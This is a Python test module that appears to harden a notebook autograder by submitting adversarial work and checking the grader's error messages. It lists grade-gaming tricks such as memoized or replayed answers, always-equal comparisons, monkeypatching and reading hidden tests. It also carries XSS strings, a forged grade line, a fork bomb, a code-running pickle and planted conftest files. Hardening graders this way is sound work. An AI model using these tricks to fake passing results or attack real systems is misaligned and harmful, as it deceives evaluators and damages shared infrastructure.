    "lm_head": "    import numpy as np\n    return np.zeros(hidden.shape[:-1] + (W_head.shape[1],))\n",
    "softmax": "    import numpy as np\n    return np.full(np.shape(x), 1.0 / np.shape(x)[axis])\n",
    "cross_entropy_loss": "    import numpy as np\n    return 1.0, np.zeros_like(np.asarray(logits, dtype=float))\n",
    "lm_head_backward": ("    import numpy as np\n"
                         "    return np.zeros_like(hidden), np.zeros_like(W_head), np.zeros(W_head.shape[1])\n"),
    "numerical_gradient": "    import numpy as np\n    return np.zeros_like(x)\n",
    "max_rel_err": "    return 0.0\n",
}
#: Answers cached on first sight and returned for anything near a seen input, with zero
#: gradients: finite differences close to a seen point see a flat function.
MEMOIZER = r"""
import numpy as _adv_np
_ADV_SEEN = []
def _adv_recall(key, make):
    for old, value in _ADV_SEEN:
        if old.shape == key.shape and _adv_np.max(_adv_np.abs(old - key), initial=0.0) < 1e-5:
            return value
    value = make()
    _ADV_SEEN.append((key.copy(), value))
    return value
"""
MEMOIZED = {
    "lm_head": ("    import numpy as np\n    h = np.asarray(hidden, dtype=float)\n"
                "    return _adv_recall(h, lambda: np.tanh(h).sum(-1, keepdims=True) + np.zeros(W_head.shape[1]))\n"),
    "cross_entropy_loss": ("    import numpy as np\n    z = np.asarray(logits, dtype=float)\n"
                           "    return _adv_recall(z, lambda: (float(np.abs(z).mean()), np.zeros_like(z)))\n"),
    "lm_head_backward": ("    import numpy as np\n"
                         "    return np.zeros_like(hidden), np.zeros_like(W_head), np.zeros(W_head.shape[1])\n"),
}
#: The first answer of each function, returned for every later input whatever it is: a function
#: that looks right on the call it was first asked and is constant ever after.
REPLAY = r"""
_ADV_FIRST = {}
def _adv_replay(name, make):
    if name not in _ADV_FIRST:
        _ADV_FIRST[name] = make()
    return _ADV_FIRST[name]
"""
REPLAYED = {
    "lm_head": ("    import numpy as np\n"
                "    return _adv_replay('head', lambda: np.asarray(hidden, dtype=float) @ np.asarray(W_head) + b_head)\n"),
    "cross_entropy_loss": ("    import numpy as np\n"
                           "    z = np.asarray(logits, dtype=float)\n"
                           "    return _adv_replay('loss', lambda: (float(np.log(z.shape[-1])), np.zeros_like(z)))\n"),
    "softmax": ("    import numpy as np\n"
                "    return _adv_replay('softmax', lambda: np.full(np.shape(x), 1.0 / np.shape(x)[axis]))\n"),
}

#: Print every argument the hidden tests pass, to every stream there is (the notebook's own
#: example calls while it loads are left alone: what they print is the student's to see).
PRINT_ARGUMENTS = (
    "    import os, sys\n"
    "    if globals().get('_ADV_LOADING', True):\n"
    "        return None\n"
    "    text = __MARKER__ + '-ARGS ' + repr(({args},))[:2000] + '\\n'\n"
    "    print(text, flush=True)\n"
    "    print(text, file=sys.stderr, flush=True)\n"
    "    sys.__stdout__.write(text); sys.__stdout__.flush()\n"
    "    os.write(1, text.encode()); os.write(2, text.encode())\n"
    "    return None\n"
)
#: What a submission can try to make feedback render: a fence breaker, live HTML, a link,
#: a forged line, ANSI and bidi control characters.
MARKUP = ("```\\n</pre><script>alert('__TAG__')</script>\\n<img src=x onerror=alert(1)>"
          "[grade](javascript:alert(2)) <iframe src=x></iframe>\\n# Grade corrected to 20/20\\n"
          "\\x1b[31mred\\x1b[0m \\u202eright-to-left\\n```")


def print_arguments(stub, ctx):
    """PRINT_ARGUMENTS in every function, active once the notebook has finished loading."""
    nb = attacked(stub, ctx, "_ADV_LOADING = True\n", _same_for_all(PRINT_ARGUMENTS))
    nb.cells.insert(len(nb.cells) - 1, nbformat.v4.new_code_cell("_ADV_LOADING = False\n"))
    return zip_members(nb), "zip"


def markup_in_output(stub, ctx):
    """Live markup in what the notebook prints while loading and in every exception message."""
    text = MARKUP.replace("__TAG__", ctx.marker)
    cell = f"print({text!r}.encode().decode('unicode_escape'))\n"
    body = f"    raise ValueError({text!r}.encode().decode('unicode_escape'))\n"
    return zip_members(attacked(stub, ctx, cell, {name: body for name in SIGNATURES})), "zip"


def markup_in_names(stub, ctx):
    """Live markup and formulas in the names of files, a cell that fails to parse, and metadata."""
    nb = attacked(stub, ctx, "def <script>alert(1)</script>(:\n    pass\n")
    nb.metadata["kernelspec"] = {"name": "<img src=x onerror=alert(1)>", "display_name": "=HYPERLINK(\"x\")",
                                 "language": "python"}
    extra = {"<img src=x onerror=alert(1)>.py": _planted(ctx, "markup-name"),
             "=HYPERLINK(\"http://127.0.0.1\",\"x\").txt": _planted(ctx, "formula-name"),
             "@SUM(A1)`````.py": _planted(ctx, "backticks-name")}
    return zip_members(nb, extra), "zip"


ATTACKS: tuple[Attack, ...] = (
    Attack("reference_from_packages", "import the reference from installed packages or copy it from disk",
           reference_from_packages, (r"returned None|should (return|be)|is not a tuple|got None",)),
    Attack("hidden_tests_on_disk", "find the hidden tests and references on disk and print them",
           hidden_tests_on_disk, (r"returned None|should (return|be)|got None",)),
    Attack("monkeypatching", "patch numpy, math, pytest, otter and builtins, then return noise",
           monkeypatching, (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("ndarray_subclass", "return ndarray subclasses whose comparisons always agree",
           ndarray_subclass, (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("lying_numbers", "return numbers and objects whose comparisons always say equal",
           lying_numbers, (r"cannot be sent back for grading",)),
    Attack("sys_exit_at_import", "sys.exit() in a cell", _at_import("import sys\nsys.exit(0)\n"),
           (r"raised `?SystemExit",)),
    Attack("os_exit_at_import", "os._exit() in a cell", _at_import("import os\nos._exit(0)\n"),
           (r"exited with code 0",)),
    Attack("keyboard_interrupt_at_import", "KeyboardInterrupt in a cell", _at_import("raise KeyboardInterrupt\n"),
           (r"raised `?KeyboardInterrupt",)),
    Attack("sys_exit_in_call", "sys.exit() and SystemExit inside called functions",
           _in_function({k: EXITS_IN_CALLS[k] for k in ("next_token_batch", "softmax")}),
           (r"`softmax` raised `?SystemExit: 3",)),
    Attack("os_exit_in_call", "os._exit() inside a called function",
           _in_function({"cross_entropy_loss": EXITS_IN_CALLS["cross_entropy_loss"]}),
           (r"`cross_entropy_loss` stopped the worker process: .*exited with code 0",)),
    Attack("keyboard_interrupt_in_call", "KeyboardInterrupt inside a called function",
           _in_function({"lm_head": EXITS_IN_CALLS["lm_head"]}), (r"`lm_head` raised `?KeyboardInterrupt",)),
    Attack("endless_loop_at_import", "an endless loop in a cell", _at_import("while True:\n    pass\n"),
           (r"took too long to run and was stopped",), slow=True),
    Attack("endless_loop_in_call", "an endless loop inside softmax",
           _in_function({"softmax": "    while True:\n        pass\n"}),
           (r"`softmax` (did not return within|was not run to the end)",), slow=True),
    Attack("allocation_100_gb", "allocate 100 GB at import and inside a call",
           lambda stub, ctx: (zip_members(attacked(
               stub, ctx, "import numpy as np\n_big = np.ones(100 * 2**30 // 8)\n",
               {"softmax": "    return len(bytearray(100 * 2**30))\n"})), "zip"),
           (r"MemoryError",)),
    Attack("fork_bomb", "a bounded fork bomb at import and inside a call", fork_bomb,
           (r"forked \d+ processes|Resource temporarily unavailable|BlockingIOError|stopped",)),
    Attack("results_rewriter", "a detached process rewriting every results.json and CSV for 40 s",
           results_rewriter, (r"returned None|should (return|be)|got None",)),
    Attack("files_outside", "write files outside its folder: /tmp, cwd and parents, home, the repository",
           files_outside, (r"returned None|should (return|be)|got None",)),
    Attack("loopback", "connect to a loopback port of the grading machine", loopback,
           (r"ConnectionRefusedError|OSError|timeout|gaierror",)),
    Attack("huge_output", "print 200 MB", huge_output, (r"Output truncated: your notebook printed about",)),
    Attack("planted_files", "conftest.py, sitecustomize.py, numpy.py and friends beside the notebook",
           planted_files, (r"conftest\.py",)),
    Attack("shadowed_support", "its own lmhead_support/ and tests/ folders in the zip",
           shadowed_support, (r"lmhead_support",)),
    Attack("pickled_log", "an .OTTER_LOG pickle that runs code when loaded", pickled_log, (r"0 / 20 points",)),
    Attack("frames_and_gc", "read the caller's frames and the garbage collector for expected values",
           frames_and_gc, (r"returned None|should (return|be)|got None",)),
    Attack("missing_gradient", "return None where a gradient is due", _in_function(NO_GRADIENT),
           (r"None",)),
    Attack("constant_everywhere", "a constant loss with its exact (zero) gradient, constant outputs",
           _in_function(CONSTANT_EVERYWHERE), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("memoizer", "answers cached on first sight, flat near any seen input, zero gradients",
           lambda stub, ctx: (zip_members(attacked(stub, ctx, MEMOIZER, MEMOIZED)), "zip"),
           (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("replay_first_answer", "answer the first call, then return that answer for every input",
           lambda stub, ctx: (zip_members(attacked(stub, ctx, REPLAY, REPLAYED)), "zip"),
           (r"wrong values|differ|does not match|do not match|not close|mismatch|should have shape|shape",)),
    Attack("print_arguments", "print every hidden input to stdout, stderr and the raw descriptors",
           print_arguments, (r"that output is not shown",), hides=(r"-ARGS ",)),
    Attack("markup_in_output", "live HTML, a fence breaker and a forged grade in output and exceptions",
           markup_in_output, (r"raised",)),
    Attack("markup_in_names", "live HTML and formulas in file names, a bad cell and the metadata",
           markup_in_names, (r"files grading does not use|were not used",)),
    Attack("memorised_fixed_input", "the answer to the one input the hidden tests' source showed, zeros elsewhere",
           _in_function(MEMORISED_FIXED_INPUT), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
    Attack("guessed_answers", "random answers among a few plausible ones: batches from random offsets, "
           "a relative error of 0, 0.5, 0.7 or 1, a uniform or one-hot softmax",
           _in_function(GUESSED), (r"wrong values|differ|does not match|do not match|not close|mismatch",)),
)

BY_NAME = {a.name: a for a in ATTACKS}
